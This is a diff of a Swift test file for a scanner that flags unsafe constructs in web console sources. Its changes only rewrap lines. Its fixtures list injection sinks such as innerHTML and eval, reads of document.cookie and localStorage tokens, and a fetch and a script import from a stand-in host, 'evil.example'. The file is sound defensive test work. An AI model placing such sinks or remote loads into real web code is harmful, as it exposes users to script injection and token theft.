@@ -51,12 +51,16 @@ struct ConsoleSourceTests {
     @Test(
         "each of these would be found",
         arguments: [
-            ("a.js", "node.innerHTML = text"), ("a.js", "node.outerHTML"), ("a.js", "node.insertAdjacentHTML('x', y)"), ("a.js", "document.write(x)"),
-            ("a.js", "eval(x)"), ("a.js", "new Function(x)"), ("a.js", "setTimeout(\"x()\", 1)"), ("a.js", "range.createContextualFragment(x)"),
+            ("a.js", "node.innerHTML = text"), ("a.js", "node.outerHTML"), ("a.js", "node.insertAdjacentHTML('x', y)"),
+            ("a.js", "document.write(x)"),
+            ("a.js", "eval(x)"), ("a.js", "new Function(x)"), ("a.js", "setTimeout(\"x()\", 1)"),
+            ("a.js", "range.createContextualFragment(x)"),
             ("a.js", "new DOMParser()"), ("a.js", "node.setHTMLUnsafe(x)"), ("a.js", "node.srcdoc = x"), ("a.js", "localStorage.token = x"),
-            ("a.js", "sessionStorage.x"), ("a.js", "document.cookie"), ("a.js", "fetch('https://evil.example')"), ("a.js", "`//evil.example/x`"),
+            ("a.js", "sessionStorage.x"), ("a.js", "document.cookie"), ("a.js", "fetch('https://evil.example')"),
+            ("a.js", "`//evil.example/x`"),
             ("a.js", "import \"http://evil.example/x.js\""), ("a.js", "link.href = 'javascript:x'"), ("a.html", "<p onclick=\"x\">"),
-            ("a.html", "<p style=\"x\">"), ("a.html", "<script>x</script>"), ("a.html", "<style>x</style>"), ("a.svg", "<svg><script/></svg>"),
+            ("a.html", "<p style=\"x\">"), ("a.html", "<script>x</script>"), ("a.html", "<style>x</style>"),
+            ("a.svg", "<svg><script/></svg>"),
             ("a.css", "url(https://evil.example/x)"), ("a.js", "node.setAttribute(\"style\", x)"),
         ])
     func aFault(_ path: String, _ text: String) {
@@ -67,7 +71,7 @@ struct ConsoleSourceTests {
         // A name of a kind of element, not an address that anything is fetched from.
         let text = text.replacing("http://www.w3.org/2000/svg", with: "")
         var patterns = [
-            #"https?:|["'`(]//|javascript:|data:text"#,
+            #"https?:|["'`(]//|javascript:|data:text"#
         ]
         switch URL(filePath: path).pathExtension {
         case "js":
